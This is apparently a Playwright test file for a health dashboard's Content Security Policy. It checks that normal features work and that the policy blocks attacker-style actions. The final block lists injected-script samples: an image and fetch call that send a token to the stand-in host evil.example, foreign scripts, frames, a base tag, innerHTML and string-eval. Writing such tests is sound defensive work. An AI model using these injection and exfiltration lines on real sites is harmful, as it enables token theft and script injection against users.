import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it, jest } from '@jest/globals';
import type { Page } from 'playwright-core';
import { addBloodPressure, choose, listenFor } from './actions';
import { setStage } from './stage';
import { until } from './until';
import { signIn, type Visitor, visit } from './visitor';

jest.setTimeout(120_000);

const stage = setStage({ isWriting: true });
let visitor: Visitor;
let page: Page;
/** A request that the browser blocked: the directive, and the address. */
const refused: string[] = [];

beforeAll(async () => {
  visitor = await visit(stage.browser, stage.product.url);
  page = visitor.page;
  await visitor.context.exposeFunction('tellRefused', (text: string) => refused.push(text));
  await visitor.context.addInitScript(() => {
    const { tellRefused } = window as unknown as { tellRefused: (text: string) => void };
    document.addEventListener('securitypolicyviolation', (event) => {
      tellRefused(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample} at ${location.pathname}`);
    });
  });
});

const dialog = () => page.getByRole('dialog');

describe('the policy lets the product do all it does', () => {
  it('signs in, and shows charts and tables', async () => {
    await signIn(page, stage.patient);
    await page.waitForURL('**/dashboard');
    await page.getByRole('button', { name: 'Show as table' }).click();
    await page.getByRole('button', { name: 'Show as chart' }).click();
  });

  it('opens dialogs, lists within them, fields of dates, and tells what was done', async () => {
    await page.goto('/dashboard/vital-signs');
    await addBloodPressure(page, 131, 77);
    await dialog().getByRole('button', { name: 'Done' }).click();
    await page.getByRole('button', { name: 'Add a reading' }).first().click();
    await choose(page, /What did you measure/, 'Temperature');
    const day = dialog().getByRole('spinbutton').first();
    await day.focus();
    // Each press has react-aria clear what it announced before.
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Escape');
    await page
      .getByRole('row', { name: /131.*77/ })
      .getByRole('button')
      .click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    // If the server was slow, it says that it will be.
    const isDeleted = await listenFor(page, /(Reading deleted|The reading will be deleted)/);
    await page.getByRole('button', { name: 'Delete reading' }).click();
    await isDeleted();
  });

  it('shows the profile, the menu of a phone, and another theme', async () => {
    await page.goto('/dashboard/profile');
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.setViewportSize({ width: 390, height: 800 });
    await page.goto('/dashboard');
    await page.getByRole('button', { name: /menu/i }).first().click();
    await dialog().waitFor();
    await page.keyboard.press('Escape');
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.reload();
    await page.getByRole('heading', { level: 1 }).waitFor();
  });

  it.each(['security', 'access-log', 'data'])('shows the settings: %s', async (name) => {
    await page.goto(`/dashboard/settings/${name}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
  });

  it.each(['/docs', '/docs/errors', '/dev/mail'])('shows %s', async (path) => {
    await page.goto(path);
    await page.getByRole('heading').first().waitFor();
  });

  const hasCatalogue = existsSync(join(import.meta.dirname, '../../../storybook-static/index.html'));
  (hasCatalogue ? it : it.skip)('shows the catalogue', async () => {
    await page.goto('/storybook/');
    await page
      .frameLocator('#storybook-preview-iframe')
      .locator('#storybook-root:visible, #storybook-docs:visible')
      .first()
      .waitFor();
  });

  it('refuses nothing of the product', () => {
    expect(refused).toEqual([]);
    expect(visitor.errors).toEqual([]);
  });
});

it('names no permission that the browser does not know', async () => {
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  await page.goto('/dashboard');
  await page.getByRole('heading', { level: 1 }).waitFor();
  expect(said.filter((text) => text.includes('Permissions-Policy'))).toEqual([]);
});

describe('the policy refuses what an attacker would do', () => {
  beforeAll(() => page.goto('/dashboard'));

  const add = (tag: string, attributes: string) =>
    `document.body.append(Object.assign(document.createElement('${tag}'), ${attributes}))`;
  it.each([
    ['markup from text', 'require-trusted-types-for', `document.body.innerHTML = '<b>'`],
    ['script within the page', 'require-trusted-types-for', add('script', `{ textContent: '1' }`)],
    ['script of a stranger', 'require-trusted-types-for', add('script', `{ src: '//evil.example' }`)],
    ['a handler in an attribute', 'require-trusted-types-for', `document.body.setAttribute('onclick', '1')`],
    ['code from text', 'require-trusted-types-for', `setTimeout('1')`],
    ['a policy that trusts text', 'trusted-types', `trustedTypes.createPolicy('default', {})`],
    [
      'a second policy of the one name',
      'trusted-types',
      `for (const _ of [1, 2]) trustedTypes.createPolicy('nadi-worker', {})`,
    ],
    [
      'another worker',
      'require-trusted-types-for',
      `navigator.serviceWorker.register('/theme.js').catch(() => {})`,
    ],
    ['a style element', 'style-src-elem', add('style', `{ textContent: 'body { color: red }' }`)],
    ['a style in an attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red')`],
    ['telling a stranger by an image', 'img-src', add('img', `{ src: '//evil.example/?token' }`)],
    ['telling a stranger by a request', 'connect-src', `fetch('//evil.example').catch(() => {})`],
    ['a frame of a stranger', 'frame-src', add('iframe', `{ src: '//evil.example' }`)],
    ['another base of addresses', 'base-uri', add('base', `{ href: '//evil.example' }`)],
  ])('%s', async (_, directive, script) => {
    const before = refused.length;
    await page.evaluate(`(() => { try { ${script} } catch {} })()`);
    // The browser tells of it a moment later, and may still have had to tell of something before it.
    await until(`refused by ${directive}`, () =>
      refused.slice(before).some((one) => one.startsWith(`${directive}: `)),
    );
  });
});
